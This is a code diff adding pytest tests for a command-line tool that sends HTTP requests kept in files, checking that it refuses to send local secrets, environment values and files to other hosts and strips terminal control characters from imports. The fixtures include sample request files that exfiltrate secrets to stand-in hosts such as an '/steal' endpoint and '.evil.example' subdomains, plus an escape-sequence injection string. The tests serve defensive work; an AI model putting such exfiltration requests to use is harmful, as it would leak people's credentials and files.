@@ -1,12 +1,14 @@
 """`entrancectl http`: requests that are kept in files, as editors read them."""
 
 import json
+import os
 from pathlib import Path
 from urllib.parse import urlsplit
 
 import pytest
 
-from api import API
+from api import API, Proxy
+from terminal import Terminal, shown
 
 TOKEN = "Authorization: Bearer {{$aadV2Token}}"
 
@@ -100,7 +102,7 @@ def test_variables(signed_in, file, home):
     (home / ".env").write_text("WHO='me' # Adele\n")
     signed_in.environment["QUERY"] = "$select=mail"
     result = signed_in("http", path)
-    assert result.status == 64 and "'api' has no value" in result.err and "Line: 1" in result.err
+    assert result.status == 64 and "“api” has no value" in result.err and "Line: 1" in result.err
     api = file("HOST/v1.0", "address")
     api = f"api={(home / 'address').read_text()}"
     assert json.loads(signed_in.ok("http", path, "--variable", api).out)["mail"]
@@ -129,13 +131,126 @@ def test_the_token_is_only_for_the_api(signed_in, emulator, file, home):
     both.write_text(Path(emulator.ca.name).read_text() + other.ca_file.read_text())
     signed_in.connect_to(emulator.connection("Contoso") | {"caFile": str(both)})
     try:
-        path = file(f"GET {other.url}\n{TOKEN}\nX-Mine: 1\n")
+        signed_in.environment["MINE"] = "1"
+        path = file(f"GET {other.url}\n{TOKEN}\nX-Mine: {{{{$processEnv MINE}}}}\n")
         result = signed_in.ok("http", path)
-        assert "The token is not sent to 'localhost:" in result.err
+        assert "The token is not sent to “localhost:" in result.err
         assert "Authorization" not in other.requests[0] and other.requests[0]["X-Mine"] == "1"
         assert not any("Bearer" in value for value in other.requests[0].values())
     finally:
         other.close()
+
+
+def test_the_token_of_another_service_is_not_for_the_api(cli, file):
+    cli.connect_to({
+        "name": "Contoso", "clientID": "11111111-2222-3333-4444-555555555555",
+        "scopes": ["api://contoso/read"], "api": "https://api.contoso.example/me"})
+    token = TOKEN.replace("}}", " scopes:https://graph.microsoft.com/Mail.Read}}")
+    path = file(f"GET https://api.contoso.example/me\n{token}\n")
+    for command in (["http", path], ["graph", "/me", "--scope", "Mail.Read"]):
+        result = cli(*command)
+        assert result.status == os.EX_USAGE, result
+        assert "whose tokens are not sent to “api.contoso.example”" in result.err, result
+
+
+# A file of someone else
+
+
+@pytest.fixture
+def taking(signed_in, file, home) -> str:
+    """A file that sends what is on this computer to a host of someone else."""
+    signed_in.environment["SECRET"] = "s3cret"
+    (home / ".env").write_text("TOKEN=s3cret\n")
+    (home / "a.txt").write_text("s3cret")
+    return file("""@key = {{$processEnv SECRET}}
+POST https://api.contoso.example/steal
+X-Key: {{key}}
+X-Token: {{$dotenv TOKEN}}
+
+< ./a.txt
+""")
+
+
+@pytest.fixture
+def elsewhere(signed_in, emulator, home):
+    """The host of someone else, which a proxy leads to."""
+    service = API(home / "elsewhere", "api.contoso.example")
+    proxy = Proxy(service.server.server_address[1])
+    both = home / "authorities.pem"
+    both.write_text(Path(emulator.ca.name).read_text() + service.ca_file.read_text())
+    signed_in.connect_to(emulator.connection("Contoso") | {"caFile": str(both)})
+    signed_in.environment |= {"https_proxy": proxy.url, "no_proxy": "localhost"}
+    yield service
+    proxy.socket.close()
+    service.close()
+
+
+def test_what_is_on_this_computer_is_not_sent_to_another_host(signed_in, taking, elsewhere):
+    result = signed_in("http", taking)
+    assert result.status == os.EX_USAGE and "s3cret" not in result.err
+    for words in ("to api.contoso.example: {{$processEnv SECRET}}, {{$dotenv TOKEN}}, < ./a.txt.",
+                  "add '--allow-host api.contoso.example'"):
+        assert words in result.err, result
+    assert signed_in("http", taking, "--allow-host", "contoso.example", "--json").error["code"] == "hostNotAllowed"
+    assert elsewhere.requests == []
+
+
+def test_a_host_that_is_allowed_gets_it(signed_in, taking, elsewhere):
+    signed_in.ok("http", taking, "--allow-host", "other.example", "--allow-host", "API.contoso.example")
+    [request] = elsewhere.requests
+    assert request["X-Key"] == request["X-Token"] == "s3cret" and elsewhere.bodies == [b"s3cret"]
+
+
+@pytest.mark.parametrize("answer, status, count", [("y", 0, 1), ("n", os.EX_USAGE, 0)])
+def test_the_person_is_asked_about_another_host(signed_in, taking, elsewhere, answer, status, count):
+    terminal = Terminal(signed_in, "http", taking)
+    terminal.wait_for("Send them? [y/N] ")
+    os.write(terminal.file, f"{answer}\n".encode())
+    assert terminal.finish().status == status and len(elsewhere.requests) == count
+
+
+def test_nobody_is_asked_about_another_host_with_no_input(signed_in, taking, elsewhere):
+    result = Terminal(signed_in, "http", taking, "--no-input").finish()
+    assert result.status == os.EX_NOINPUT and "[y/N]" not in result.err and "--allow-host" in result.err
+    assert elsewhere.requests == []
+
+
+def test_the_person_is_asked_about_another_host_also_with_a_passphrase_file(signed_in, taking, elsewhere, home):
+    (home / "passphrase").write_text("correct horse\n")
+    (home / "passphrase").chmod(0o600)
+    terminal = Terminal(signed_in, "http", taking, "--passphrase-file", str(home / "passphrase"))
+    terminal.wait_for("Send them? [y/N] ")
+    os.write(terminal.file, b"y\n")
+    assert terminal.finish().status == 0 and len(elsewhere.requests) == 1
+
+
+@pytest.mark.parametrize("address, shown", [
+    ("https://{{$processEnv SECRET}}.evil.example/", None), ("https://{{key}}.evil.example/", None),
+    ("{{$dotenv TOKEN}}.evil.example/", None), ("https://evil.example:{{$processEnv PORT}}/", None),
+    ("https://a:{{$processEnv SECRET}}@evil.example/", None), ("http://{{$processEnv SECRET}}.evil.example/", None),
+    ("/x\nHost: {{$processEnv SECRET}}.evil.example", "{{$processEnv SECRET}}.evil.example/x")])
+def test_the_refusal_of_a_host_does_not_tell_what_it_protects(signed_in, taking, elsewhere, file, address, shown):
+    signed_in.environment["PORT"] = "4443"
+    path = file(f"@key = {{{{$processEnv SECRET}}}}\nGET {address}\nX-Key: {{{{key}}}}\n")
+    result = signed_in("http", path)
+    assert result.status == os.EX_USAGE and (shown or address) in result.err, result
+    assert not any(value in result.err for value in ("s3cret", "4443", "--allow-host")), result
+    terminal = Terminal(signed_in, "http", path).finish()
+    assert terminal.status == os.EX_USAGE and "s3cret" not in terminal.err and "[y/N]" not in terminal.err
+    assert elsewhere.requests == []
+
+
+def test_a_host_of_the_environment_can_be_allowed(signed_in, taking, elsewhere, file):
+    signed_in.environment["PLACE"] = "api.contoso.example"
+    path = file("GET https://{{$processEnv PLACE}}/\n")
+    assert signed_in("http", path).status == os.EX_USAGE
+    signed_in.ok("http", path, "--allow-host", "api.contoso.example")
+    assert len(elsewhere.requests) == 1
+
+
+def test_a_field_that_cannot_be_sent_is_told_without_its_value(signed_in, taking, file):
+    result = signed_in("http", file("GET HOST/v1.0/me\nX(: {{$processEnv SECRET}}\n"))
+    assert result.status == os.EX_USAGE and "“X(”" in result.err and "s3cret" not in result.err, result
 
 
 def test_without_the_field_no_token_is_sent(signed_in, file):
@@ -167,7 +282,7 @@ def test_what_has_no_effect_is_said(signed_in, file):
     path = file(f"# @timeout 5\nGET HOST/v1.0/me\n{TOKEN}\nclient-request-id: 1\n")
     result = signed_in.ok("http", path)
     assert "line 1: '@timeout' has no effect" in result.err
-    assert "'client-request-id' of the file is not sent" in result.err
+    assert "“client-request-id” of the file is not sent" in result.err
 
 
 # Permissions
@@ -190,10 +305,14 @@ def test_explain_a_file(cli, keyring, emulator, file):
     # Microsoft's pages: user-list-messages, message-update, user-sendmail. Mail.ReadWrite can read, too.
     assert result.out.splitlines() == [
         "Inbox: Mail.ReadBasic", "Move: Mail.ReadWrite", "Send: Mail.Send",
-        "Weather: The request goes to 'weather.example', not to Microsoft Graph.",
-        "Least permissions for the file: Mail.ReadWrite, Mail.Send", "No account is signed in."]
+        "Weather: The request goes to “weather.example”, not to Microsoft Graph.",
+        "Least privileged permissions for the file: Mail.ReadWrite, Mail.Send", "No account is signed in."]
     document = cli.ok("graph", "explain", file(MAIL), "--json").json
+    assert list(document) == [
+        "file", "accountKind", "requests", "least", "account", "missing", "command", "tableDate"]
     assert document["least"] == ["Mail.ReadWrite", "Mail.Send"] and document["missing"] is None
+    assert list(cli.ok("graph", "explain", "GET", "/me", "--json").json) == [
+        "method", "path", "accountKind", "least", "higher", "account", "missing", "command", "tableDate"]
 
 
 def test_explain_a_file_to_an_account(signed_in, file):
@@ -219,7 +338,7 @@ curl -d 'client_secret=s3cret' https://a.example
     requests = home / "imported.http"
     result = signed_in.ok("http", "import", str(commands), "-o", str(requests))
     assert result.out == "" and "cookies of '--cookie' are left out" in result.err
-    assert "'-k' is left out" in result.err and "variable 'client_secret'" in result.err
+    assert "'-k' is left out" in result.err and "Define '@client_secret = value'" in result.err
     text = requests.read_text()
     assert "s3cret" not in text + result.err and TOKEN in text and "client_secret={{client_secret}}" in text
     assert json.loads(signed_in.ok("http", str(requests), "1").out)["mail"]
@@ -244,6 +363,17 @@ def test_collections_and_archives_are_recognized(cli):
     document = cli.ok("http", "import", "--json", "-", input=json.dumps(archive)).json
     assert document["source"] == "har" and document["requests"] == ["GET a.example/x"]
     assert len(document["remarks"]) == 1 and document["text"].startswith("### GET a.example/x\n")
+
+
+def test_a_terminal_gets_no_control_characters_of_an_import(cli, home):
+    collection = home / "collection.json"
+    collection.write_text(json.dumps({
+        "info": {"name": "x"}, "item": [{"name": "Me", "request": {
+            "method": "POST", "header": [], "url": "https://a.example",
+            "body": {"mode": "raw", "raw": "\x1b]52;c;QQ==\x07Adele\n\x9b31mVance"}}}]}))
+    text = shown(cli, "http", "import", str(collection))
+    # The empty line between head and body is kept.
+    assert "POST https://a.example\r\n" in text and "\r\n\r\n" in text and "Adele\r\n" in text and "Vance" in text
 
 
 @pytest.mark.parametrize("text, line, column, reason", [
